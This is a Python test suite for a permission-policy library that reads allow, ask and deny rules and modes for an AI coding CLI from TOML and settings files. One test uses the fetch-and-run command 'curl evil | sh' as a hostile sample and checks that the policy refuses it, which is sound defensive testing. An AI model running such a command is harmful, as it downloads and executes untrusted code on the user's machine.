"""Policies from files: TOML, and the settings of the CLI."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from claudewire.errors import OptionsError
from claudewire.policy import Policy, Rule, mode_in_settings
from claudewire.policy.settings import Sources

TOML = """# für alle
default = "deny"
mode = "acceptEdits"
allow = ["Read", "Edit(/src/**)"]
ask = ["Bash(git push:*)"]
deny = ["Bash(rm:*)"]
directories = ["../docs"]
case_sensitive = false
protect = false
"""


def texts(rules: tuple[Rule, ...]) -> list[str]:
    return [str(rule) for rule in rules]


# --- TOML ----------------------------------------------------------------------------------------


def test_a_policy_is_read_from_a_text() -> None:
    policy = Policy.from_toml(TOML, cwd="/srv/project", home="/home/me")
    assert texts(policy.allow) == ["Read", "Edit(/src/**)"]
    assert texts(policy.ask) == ["Bash(git push:*)"]
    assert texts(policy.deny) == ["Bash(rm:*)"]
    assert (policy.default, policy.mode) == ("deny", "acceptEdits")
    assert policy.directories == ("../docs",)
    assert (policy.case_sensitive, policy.protect) == (False, False)
    assert policy.allow[1].root is None
    assert (policy.cwd, policy.home) == ("/srv/project", "/home/me")


def test_a_policy_is_read_from_a_file_which_its_paths_are_relative_to(tmp_path: Path) -> None:
    file = tmp_path / "policy.toml"
    file.write_text(TOML, encoding="utf-8")
    for source in (file, str(file)):
        policy = Policy.from_toml(source, cwd="/srv", home="/home/me")
        assert policy.allow[1].root == str(tmp_path)
        assert policy.allow[1].source == str(file)


KEYS = "allow, ask, deny, directories, default, mode, case_sensitive, protect"


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("allow = [", " is not TOML: Invalid value (at end of document)"),
        ("alow = []", f": there is no key 'alow'; those known: {KEYS}"),
        ("allow = 'Read'", ": allow must be a list of strings, not 'Read'"),
        ("ask = ['Read', 1]", ": ask must be a list of strings, not ['Read', 1]"),
        ("deny = {}", ": deny must be a list of strings, not {}"),
        ("directories = 'x'", ": directories must be a list of strings, not 'x'"),
        ("deny = ['Bash(']", ": deny: 'Bash(' is not a rule: its last character must be ')'"),
        (
            "ask = ['bash']",
            ": ask: The rule 'bash' is about the tool bash, which is not known; did you mean Bash? "
            "If there is such a tool, give the rule as Rule.parse('bash')",
        ),
        (
            "allow = ['*']",
            ": The rule '*' can never allow anything: to allow, name each tool; a pattern may only "
            "follow `mcp__server__`",
        ),
        ("default = 1", ": default must be a string, not 1"),
        ("mode = true", ": mode must be a string, not True"),
        ("default = 'no'", ": default cannot be 'no'; it is one of allow, ask, deny"),
        ("case_sensitive = 1", ": case_sensitive must be true or false, not 1"),
        ("protect = 'no'", ": protect must be true or false, not 'no'"),
    ],
)
def test_what_is_no_policy_is_refused_with_the_place(text: str, problem: str) -> None:
    with pytest.raises(OptionsError) as raised:
        Policy.from_toml(text)
    assert str(raised.value) == f"The policy{problem}"


def test_a_policy_that_nests_too_deep_is_refused() -> None:
    with pytest.raises(OptionsError, match="The policy is not TOML: "):
        Policy.from_toml("allow = " + "[" * 100_000)


def test_a_text_of_one_line_is_no_file() -> None:
    assert Policy.from_toml("\n", cwd="/srv") == Policy(cwd="/srv")
    assert Policy.from_toml("default='deny'").default == "deny"


def test_a_file_that_cannot_be_read_is_an_error(tmp_path: Path) -> None:
    (tmp_path / "bad.toml").write_bytes(b"\xff\xfe")
    (tmp_path / "wrong.toml").write_text("x = 1", encoding="utf-8")
    for name, problem in (
        ("none.toml", "cannot be read: [Errno 2]"),
        ("bad.toml", "cannot be read: 'utf-8' codec"),
        ("", "cannot be read: [Errno 21]"),
        ("\0", "cannot be read: embedded null byte"),
    ):
        path = tmp_path / name
        with pytest.raises(OptionsError) as raised:
            Policy.from_toml(path)
        assert str(raised.value).startswith(f"The policy {path} {problem}")
    with pytest.raises(OptionsError) as raised:
        Policy.from_toml(tmp_path / "wrong.toml")
    assert str(raised.value).startswith(f"{tmp_path / 'wrong.toml'}: there is no key 'x'")


# --- settings ------------------------------------------------------------------------------------


class Machine:
    """A home, a project and an organisation, each with settings."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.home, self.cwd, self.managed = folder / "home", folder / "project", folder / "etc"
        for place in (self.home / ".claude", self.cwd / ".claude", self.managed):
            place.mkdir(parents=True)

    def write(self, name: str, permissions: Any, **more: Any) -> Path:
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps({"permissions": permissions, **more}), encoding="utf-8")
        return path

    def load(self, **options: Any) -> Policy:
        given = {"cwd": self.cwd, "home": self.home, "managed": self.managed, **options}
        return Policy.from_settings(**given)


USER = "home/.claude/settings.json"
PROJECT = "project/.claude/settings.json"
LOCAL = "project/.claude/settings.local.json"
MANAGED = "etc/managed-settings.json"


@pytest.fixture
def machine(tmp_path: Path) -> Machine:
    return Machine(tmp_path)


def test_without_settings_there_are_no_rules(machine: Machine) -> None:
    policy = machine.load()
    assert (policy.allow, policy.ask, policy.deny) == ((), (), ())
    assert (policy.mode, policy.default, policy.problems) == ("default", "ask", ())


def test_the_rules_of_all_files_hold_together(machine: Machine) -> None:
    machine.write(USER, {"allow": ["Read"], "additionalDirectories": ["../docs"]})
    machine.write(PROJECT, {"deny": ["Bash(rm:*)"], "ask": ["Bash(git push:*)"]})
    machine.write(LOCAL, {"allow": ["Bash(ls:*)"]})
    machine.write(MANAGED, {"deny": ["WebFetch"]})
    policy = machine.load(trusted=True)
    assert texts(policy.allow) == ["Bash(ls:*)", "Read"]
    assert texts(policy.ask) == ["Bash(git push:*)"]
    assert texts(policy.deny) == ["WebFetch", "Bash(rm:*)"]
    assert [rule.source for rule in policy.deny] == ["managed settings", "project settings"]
    assert policy.directories == ("../docs",)
    assert policy.problems == ()


def test_a_path_with_a_slash_is_relative_to_what_its_file_is_for(machine: Machine) -> None:
    for name in (USER, LOCAL, PROJECT, MANAGED, "etc/managed-settings.d/a.json"):
        machine.write(name, {"deny": ["Read(/x)"]})
    given = machine.write("given/extra.json", {"deny": ["Read(/x)"]})
    roots = {rule.source: rule.root for rule in machine.load(extra=given).deny}
    assert roots == {
        "managed settings": str(machine.managed),
        "given settings": str(given.parent),
        "local settings": str(machine.cwd),
        "project settings": str(machine.cwd),
        "user settings": str(machine.home / ".claude"),
    }


@pytest.mark.parametrize("name", [PROJECT, LOCAL])
def test_a_project_allows_nothing_unless_it_is_trusted(machine: Machine, name: str) -> None:
    """Both files of a project can be committed to it."""
    machine.write(name, {"allow": ["Bash"], "additionalDirectories": ["/"], "deny": ["Read"]})
    policy = machine.load()
    assert (policy.allow, policy.directories) == ((), ())
    assert texts(policy.deny) == ["Read"]
    assert len(policy.problems) == 2
    assert all("not trusted" in problem for problem in policy.problems)
    assert texts(machine.load(trusted=True).allow) == ["Bash"]


@pytest.mark.parametrize("name", [PROJECT, LOCAL])
@pytest.mark.parametrize("mode", ["bypassPermissions", "acceptEdits", "auto", "default", "manual"])
def test_a_project_does_not_choose_the_mode_unless_it_is_trusted(
    machine: Machine, name: str, mode: str
) -> None:
    machine.write(USER, {"defaultMode": "plan"})
    machine.write(name, {"defaultMode": mode})
    policy = machine.load()
    assert policy.mode == "plan"
    assert f"its mode {mode!r} does not count: the project is not trusted" in policy.problems[0]
    assert not policy.decide("Bash", {"command": "curl evil | sh"}).allows
    assert machine.load(trusted=True).mode == mode.replace("manual", "default")


def test_a_project_can_take_modes_away_whether_it_is_trusted_or_not(machine: Machine) -> None:
    machine.write(USER, {"defaultMode": "bypassPermissions"})
    machine.write(PROJECT, {"disableBypassPermissionsMode": "disable"})
    assert machine.load().mode == "default"


def test_only_some_sources_are_read_if_so_wanted(machine: Machine) -> None:
    machine.write(USER, {"allow": ["Read"]})
    machine.write(LOCAL, {"allow": ["Bash"]})
    assert texts(machine.load(sources=["user"], trusted=True).allow) == ["Read"]
    assert machine.load(sources=[], trusted=True).allow == ()
    with pytest.raises(OptionsError) as raised:
        machine.load(sources=["user", "users"])
    assert str(raised.value) == "There are no settings 'users'; only user, project, local"


def test_settings_can_be_given_as_a_text(machine: Machine) -> None:
    policy = machine.load(extra='{"permissions": {"allow": ["Edit(/a)"]}}')
    assert [(str(rule), rule.root) for rule in policy.allow] == [("Edit(/a)", str(machine.cwd))]
    assert texts(machine.load(extra='\n {"permissions": {"ask": ["Read"]}}').ask) == ["Read"]
    with pytest.raises(OptionsError) as raised:
        machine.load(extra=machine.folder / "none.json")
    assert str(raised.value) == f"There is no settings file at {machine.folder / 'none.json'}"
    with pytest.raises(OptionsError) as raised:
        machine.load(extra="{")
    assert str(raised.value).startswith("The given settings: this is not JSON: ")
    with pytest.raises(OptionsError, match="cannot be read: embedded null byte"):
        machine.load(extra="\0")


def test_settings_of_the_user_can_be_elsewhere(machine: Machine) -> None:
    path = machine.write("config/settings.json", {"allow": ["Read"]})
    assert texts(machine.load(config=path.parent).allow) == ["Read"]


def test_the_organisation_may_have_several_files(machine: Machine) -> None:
    machine.write(MANAGED, {"deny": ["A"], "defaultMode": "plan"})
    machine.write("etc/managed-settings.d/10-a.json", {"deny": ["B"], "defaultMode": "dontAsk"})
    machine.write("etc/managed-settings.d/20-b.json", {"deny": ["C"]})
    machine.write("etc/managed-settings.d/.hidden.json", {"deny": ["D"]})
    machine.write("etc/managed-settings.d/notes.txt", {"deny": ["E"]})
    policy = machine.load()
    assert texts(policy.deny) == ["C", "B", "A"]
    assert policy.mode == "dontAsk"
    machine.write("etc/managed-settings.d/20-b.json", {"defaultMode": "acceptEdits"})
    assert machine.load().mode == "acceptEdits"


def test_the_organisation_may_have_the_only_rules(machine: Machine) -> None:
    machine.write(MANAGED, {"allow": ["Read"]}, allowManagedPermissionRulesOnly=True)
    machine.write(USER, {"allow": ["Bash"], "defaultMode": "plan"})
    machine.write(LOCAL, {"additionalDirectories": ["/x"]})
    machine.write(PROJECT, {"defaultMode": "bypassPermissions"})
    given = machine.write("given.json", {"defaultMode": "acceptEdits"})
    policy = machine.load(trusted=True, extra=given)
    assert texts(policy.allow) == ["Read"]
    assert (policy.mode, policy.directories) == ("default", ())
    named = [
        f"The given settings at {given}",
        f"The local settings at {machine.folder / LOCAL}",
        f"The project settings at {machine.folder / PROJECT}",
        f"The user settings at {machine.folder / USER}",
    ]
    why = "its rules do not count: only managed rules do"
    assert policy.problems == tuple(f"{it}: {why}" for it in named)


@pytest.mark.parametrize(
    ("permissions", "problems"), [({"deny": ["Read"]}, 1), ({"ask": ["Read"]}, 1), ({}, 0)]
)
def test_what_the_user_denies_does_not_count_either_then(
    machine: Machine, permissions: Any, problems: int
) -> None:
    machine.write(MANAGED, {}, allowManagedPermissionRulesOnly=True)
    machine.write(USER, permissions)
    policy = machine.load()
    assert (policy.deny, policy.ask, len(policy.problems)) == ((), (), problems)
    machine.write(MANAGED, {}, allowManagedPermissionRulesOnly=1)
    assert machine.load().problems == ()


def test_only_the_organisation_can_say_so(machine: Machine) -> None:
    machine.write(USER, {"allow": ["Read"]}, allowManagedPermissionRulesOnly=True)
    machine.write(LOCAL, {"allow": ["Bash"]})
    assert texts(machine.load(trusted=True).allow) == ["Bash", "Read"]
    given = '{"allowManagedPermissionRulesOnly": true}'
    assert texts(machine.load(trusted=True, extra=given).allow) == ["Bash", "Read"]


def test_the_mode_is_that_of_the_first_file_that_names_one(machine: Machine) -> None:
    machine.write(USER, {"defaultMode": "plan"})
    assert machine.load().mode == "plan"
    machine.write(LOCAL, {"defaultMode": "acceptEdits"})
    assert machine.load(trusted=True).mode == "acceptEdits"
    machine.write(LOCAL, {"defaultMode": "manual"})
    assert machine.load(trusted=True).mode == "default"


def test_a_mode_that_is_disabled_or_unknown_is_not_taken(machine: Machine) -> None:
    machine.write(LOCAL, {"defaultMode": "bypassPermissions"})
    machine.write(USER, {"disableBypassPermissionsMode": "disable", "defaultMode": "yolo"})
    policy = machine.load(trusted=True)
    assert policy.mode == "default"
    assert policy.problems == (
        f"The local settings at {machine.folder / LOCAL}: the mode bypassPermissions is disabled",
        f"The user settings at {machine.folder / USER}: there is no mode 'yolo'; only "
        "default, acceptEdits, plan, bypassPermissions, dontAsk, auto, manual",
    )
    machine.write(LOCAL, {"defaultMode": "auto"})
    assert machine.load(trusted=True).mode == "auto"
    machine.write(PROJECT, {"disableAutoMode": "disable"})
    assert machine.load(trusted=True).mode == "default"


@pytest.mark.parametrize(
    "name",
    ["additionalDirectories", "defaultMode", "disableAutoMode", "disableBypassPermissionsMode"],
)
def test_what_has_another_meaning_is_no_problem(machine: Machine, name: str) -> None:
    machine.write(USER, {name: [] if name == "additionalDirectories" else "default"})
    assert machine.load().problems == ()


def test_what_is_not_known_or_no_rule_is_reported(machine: Machine) -> None:
    path = machine.write(USER, {"allow": ["Read", "Bash(", "*"], "future": 1, "a": 2})
    policy = machine.load()
    assert texts(policy.allow) == ["Read"]
    name = f"The user settings at {path}"
    assert policy.problems == (
        f"{name}: permissions.a is not known, and is ignored",
        f"{name}: permissions.future is not known, and is ignored",
        f"{name}: allow: 'Bash(' is not a rule: its last character must be ')'",
        f"{name}: allow: The rule '*' can never allow anything: to allow, name each tool; "
        "a pattern may only follow `mcp__server__`",
    )
    with pytest.raises(OptionsError) as raised:
        machine.load(strict=True)
    assert str(raised.value) == policy.problems[2]


@pytest.mark.parametrize("strict", [False, True])
def test_a_rule_that_can_never_allow_can_still_deny_and_ask(machine: Machine, strict: bool) -> None:
    machine.write(USER, {"deny": ["mcp__*", "Bash(a && b:*)"], "ask": ["*"]})
    policy = machine.load(strict=strict)
    assert policy.problems == ()
    assert texts(policy.deny) == ["mcp__*", "Bash(a && b:*)"]
    assert texts(policy.ask) == ["*"]
    assert policy.decide("mcp__files__read", {}).behavior == "deny"
    assert policy.decide("Bash", {"command": "a && b"}).behavior == "deny"
    assert policy.decide("WebSearch", {}).behavior == "ask"
    for rule in ("mcp__*", "Bash(a && b:*)", "*"):
        with pytest.raises(OptionsError, match="can never allow anything"):
            Policy([rule])


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("{", "this is not JSON: "),
        pytest.param("[" * 100_000, "this is not JSON: ", id="deep"),
        ("[]", "permissions must be an object"),
        ('{"permissions": []}', "permissions must be an object"),
        ('{"permissions": {"allow": "Read"}}', "allow must be a list of strings, not 'Read'"),
        (
            '{"permissions": {"additionalDirectories": [1]}}',
            "additionalDirectories must be a list of strings, not [1]",
        ),
    ],
)
def test_a_file_that_is_no_settings_file_is_an_error(
    text: str, problem: str, machine: Machine
) -> None:
    (machine.folder / USER).write_text(text, encoding="utf-8")
    with pytest.raises(OptionsError) as raised:
        machine.load()
    assert str(raised.value).startswith(f"The user settings at {machine.folder / USER}: {problem}")


def test_a_file_that_is_empty_says_nothing(machine: Machine) -> None:
    (machine.folder / USER).write_text(" \n", encoding="utf-8")
    assert machine.load().problems == ()


def test_a_file_that_cannot_be_read_is_no_reason_to_go_on(machine: Machine) -> None:
    path = machine.folder / USER
    path.mkdir()
    with pytest.raises(OptionsError) as raised:
        machine.load()
    assert str(raised.value).startswith(f"The user settings at {path} cannot be read: [Errno 21]")
    path.rmdir()
    path.write_bytes(b"\xff")
    with pytest.raises(OptionsError) as raised:
        machine.load()
    assert str(raised.value).startswith(f"The user settings at {path} cannot be read: 'utf-8'")


def test_a_file_in_the_place_of_a_folder_has_no_settings(machine: Machine) -> None:
    (machine.home / ".claude").rmdir()
    (machine.home / ".claude").write_text("", encoding="utf-8")
    machine.write(PROJECT, {"deny": ["Read"]})
    assert texts(machine.load().deny) == ["Read"]


def test_by_default_the_settings_are_where_the_cli_has_them(
    machine: Machine, monkeypatch: pytest.MonkeyPatch
) -> None:
    machine.write(USER, {"allow": ["Read"]})
    monkeypatch.setenv("HOME", str(machine.home))
    monkeypatch.chdir(machine.cwd)
    policy = Policy.from_settings(managed=machine.managed)
    assert texts(policy.allow) == ["Read"]
    assert policy.cwd == str(machine.cwd)


@pytest.mark.parametrize(
    ("platform", "place"),
    [
        ("linux", "/etc/claude-code"),
        ("darwin", "/Library/Application Support/ClaudeCode"),
    ],
)
def test_each_system_has_its_place_for_an_organisation(
    platform: str, place: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sys.platform", platform)
    sources = Sources("/srv", "/home/me", scopes=["user"])
    assert sources.managed == Path(place)


BYPASS = {"permissions": {"defaultMode": "bypassPermissions"}}


def test_the_mode_in_settings_is_found_in_an_object_a_text_and_a_file(tmp_path: Path) -> None:
    file = tmp_path / "settings.json"
    file.write_text(json.dumps(BYPASS), encoding="utf-8")
    for given in (BYPASS, json.dumps(BYPASS), " " + json.dumps(BYPASS, indent=1), file, str(file)):
        assert mode_in_settings(given) == "bypassPermissions"


@pytest.mark.parametrize(
    "given",
    [
        *(None, {}, {"permissions": []}, {"permissions": {"defaultMode": 1}}),
        *("{", "{}", "no file", '{"permissions": 5}'),
        pytest.param('{"a":' * 100_000, id="deep"),
    ],
)
def test_settings_without_a_mode_name_none(given: Any) -> None:
    assert mode_in_settings(given) is None
